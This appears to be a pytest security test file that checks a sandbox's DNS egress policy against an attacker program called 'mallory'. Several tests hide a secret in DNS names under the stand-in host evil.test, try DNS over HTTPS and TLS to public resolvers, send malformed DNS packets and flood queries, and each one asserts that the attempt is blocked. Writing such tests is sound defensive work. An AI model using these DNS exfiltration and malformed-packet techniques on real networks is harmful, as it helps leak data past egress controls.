"""Names carry nothing out: no question of a sandbox ever reaches a name server, allowed or not."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from tests.security.conftest import transparent_only

if TYPE_CHECKING:
    from tests.security.outbound import Outbound

pytestmark = [pytest.mark.asyncio(loop_scope="module"), transparent_only]

SECRET = "6c6f6f6b206174207468697320"
# A small client of the protocol: what a sandbox can write onto the wire, well formed or not.
_DNS = r"""
A, NS, SOA, PTR, MX, TXT, AAAA, NULL, SRV, SVCB, HTTPS, ANY, AXFR = 1, 2, 6, 12, 15, 16, 28, 10, 33, 64, 65, 255, 252

def labels(name):
    return b"".join(bytes([len(label)]) + label for label in name.split(b".") if label) + b"\0"

def question(name, kind=A, number=7):
    name = name.encode() if isinstance(name, str) else name
    return struct.pack(">6H", number, 0x0100, 1, 0, 0, 0) + labels(name) + struct.pack(">HH", kind, 1)

def udp(data, server="127.0.0.53"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect((server, 53))
        sock.send(data)
        return sock.recv(4096)

def tcp(data, server="127.0.0.53", size=None):
    with socket.create_connection((server, 53), 3) as sock:
        sock.sendall(struct.pack(">H", len(data) if size is None else size) + data)
        sock.shutdown(socket.SHUT_WR) if size is not None else None
        length = sock.recv(2)
        return sock.recv(int.from_bytes(length, "big")) if len(length) == 2 else b""

def told(answer):
    "Return the code of an answer, how many records it has, and the address in the last of them."
    if len(answer) < 12:
        return "nothing"
    code, count = answer[3] & 15, int.from_bytes(answer[6:8], "big")
    address = socket.inet_ntoa(answer[-4:]) if count else None
    return [("NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN", "NOTIMP", "REFUSED")[code], count, address]

def ask(name, kind=A, server="127.0.0.53", how=udp):
    return outcome_of(lambda: told(how(question(name, kind), server)))
"""


async def run(mallory: Outbound, program: str) -> Any:
    return await mallory.run(_DNS + program)


async def eventually_resolved(mallory: Outbound) -> None:
    """Return once a listed name is told its address again, and leads where it did."""
    program = "answer([ask('api.allowed.test')[:2], https('api.allowed.test')[-5:]])"
    for _ in range(20):
        got = await run(mallory, program)
        if got == [["NOERROR", 1], "est/\n"]:
            return
    pytest.fail(str(got))


async def test_a_listed_name_has_an_address_that_means_nothing_outside(mallory: Outbound) -> None:
    code, count, address = await run(mallory, "answer(ask('api.allowed.test'))")
    assert (code, count) == ("NOERROR", 1)
    assert address.startswith(("198.18.", "198.19."))
    mallory.asked_nobody()


async def test_a_secret_in_a_name_that_is_not_listed(mallory: Outbound) -> None:
    assert await run(mallory, f"answer(ask('{SECRET}.evil.test'))") == ["NXDOMAIN", 0, None]
    await mallory.names_refused(("dns_denied", f"{SECRET}.evil.test"))
    mallory.asked_nobody()


async def test_a_secret_below_a_wildcard(mallory: Outbound) -> None:
    got = await run(
        mallory, f"answer([ask('{SECRET}.wild.allowed.test', kind) for kind in (TXT, NULL, MX, SRV, NS, SOA)])"
    )
    assert got == [["NOERROR", 0, None]] * 6
    mallory.asked_nobody()


@pytest.mark.parametrize("how", ["udp", "tcp"])
@pytest.mark.parametrize("server", ["8.8.8.8", "1.1.1.1", "127.0.0.53", "10.0.0.2"])
async def test_whichever_server_is_asked_the_policy_answers(mallory: Outbound, server: str, how: str) -> None:
    got = await run(
        mallory, f"answer([ask(name, A, '{server}', {how}) for name in ('api.allowed.test', '{SECRET}.evil.test')])"
    )
    assert got[0][:2] == ["NOERROR", 1]
    assert got[1] == ["NXDOMAIN", 0, None]
    mallory.asked_nobody()
    mallory.reached_nothing()


@pytest.mark.parametrize("kind", ["AAAA", "HTTPS", "SVCB", "TXT", "ANY", "AXFR"])
async def test_other_records_of_a_listed_name_are_empty(mallory: Outbound, kind: str) -> None:
    assert (await run(mallory, f"answer(ask('api.allowed.test', {kind}))"))[1] == 0
    mallory.asked_nobody()


@pytest.mark.parametrize("host", ["1.1.1.1", "8.8.8.8"])
async def test_names_over_https_at_an_address(mallory: Outbound, host: str) -> None:
    assert await run(mallory, f"answer(https('{host}', path='/dns-query'))") in ("ECONNRESET", "SSLEOFError")
    await mallory.refusals(("literal_ip", host, 443))
    mallory.reached_nothing()


async def test_names_over_https_by_name(mallory: Outbound) -> None:
    assert await run(mallory, "answer([https('dns.google'), connect('dns.google:443')])") == [
        "no address",
        [403, "no_rule"],
    ]
    await mallory.refusals(("no_rule", "dns.google", 443))
    mallory.reached_nothing()
    mallory.asked_nobody()


async def test_names_over_tls(mallory: Outbound) -> None:
    assert await run(mallory, "answer(direct('8.8.8.8', 853, b'x'))") in ("ECONNRESET", "")
    await mallory.refusals(("literal_ip", "8.8.8.8", 853))
    mallory.reached_nothing()


async def test_letters_of_any_case(mallory: Outbound) -> None:
    got = await run(
        mallory,
        "data = udp(question('aPi.AlLoWeD.TeSt'))\nanswer([*told(data)[:2], data[12:30].decode('latin-1')])",
    )
    assert got == ["NOERROR", 1, "\x03aPi\x07AlLoWeD\x04TeSt\x00"]


JUNK = {
    "a pointer to itself": r"struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\xc0\x0c' + struct.pack('>HH', 1, 1)",
    "pointers in a circle": r"struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\xc0\x0e\xc0\x0c' + struct.pack('>HH', 1, 1)",
    "a pointer behind the end": r"struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\xc3\xff' + struct.pack('>HH', 1, 1)",
    "two questions": "struct.pack('>6H', 7, 256, 2, 0, 0, 0) + question('api.allowed.test')[12:] * 2",
    "no question": "struct.pack('>6H', 7, 256, 0, 0, 0, 0)",
    "a name of 255 bytes": "question('.'.join(['a' * 61] * 4) + '.aaaaaa')",
    "a longer name": "question('.'.join(['a' * 62] * 5))",
    "a label with NUL": r"question(b'api.allowed.test\0.evil.test')",
    "a label with a dot": r"question('api')[:12] + b'\x10api.allowed.test\0' + struct.pack('>HH', 1, 1)",
    "a cut question": "question('api.allowed.test')[:20]",
    "an answer": "struct.pack('>6H', 7, 0x8180, 1, 0, 0, 0) + question('api.allowed.test')[12:]",
    "an update": "struct.pack('>6H', 7, 0x2900, 1, 0, 0, 0) + question('api.allowed.test')[12:]",
    "one byte": "b'x'",
}


@pytest.mark.parametrize("data", JUNK.values(), ids=JUNK)
async def test_junk_is_refused_and_nothing_breaks(mallory: Outbound, data: str) -> None:
    got = await run(
        mallory, f"answer([outcome_of(lambda: told(how({data}))) for how in (udp, tcp)] + [ask('api.allowed.test')])"
    )
    for said in got[:2]:
        assert said in ("ETIMEDOUT", "nothing", "ECONNRESET") or said[1] == 0, got
    assert got[2][:2] == ["NOERROR", 1]
    mallory.asked_nobody()


@pytest.mark.parametrize("size", [0, 1, 11, 65_535])
async def test_a_length_that_is_not_true(mallory: Outbound, size: int) -> None:
    got = await run(
        mallory,
        f"data = question('{SECRET}.evil.test')\n"
        f"answer([outcome_of(lambda: told(tcp(data, size={size}))), ask('api.allowed.test')])",
    )
    assert got[1][:2] == ["NOERROR", 1]
    mallory.asked_nobody()


async def test_more_names_than_anybody_remembers(mallory: Outbound) -> None:
    program = (
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n"
        "    sock.connect(('127.0.0.53', 53)); sock.setblocking(False)\n"
        "    for number in range(20_000):\n"
        "        outcome_of(lambda: sock.send(question(f'n{number}.wild.allowed.test')))\n"
        "answer([ask('api.allowed.test')[:2] for _ in range(3)])"
    )
    # While there are too many there may be no answer, but never a false one, and none goes any further.
    asked = await run(mallory, program)
    assert all(one in (["NOERROR", 1], ["SERVFAIL", 0], ["REFUSED", 0], "ET") for one in asked), asked
    mallory.asked_nobody()
    await eventually_resolved(mallory)
    assert await mallory.inside.still_works()


async def test_no_name_is_told_where_the_policy_says_no_dns(mallory: Outbound) -> None:
    await mallory.change("api.allowed.test:443", version=2, dns=False)
    got = await run(mallory, "answer([ask('api.allowed.test')[0], connect('api.allowed.test:443')])")
    assert got == ["NXDOMAIN", [200]] or got == ["REFUSED", [200]]
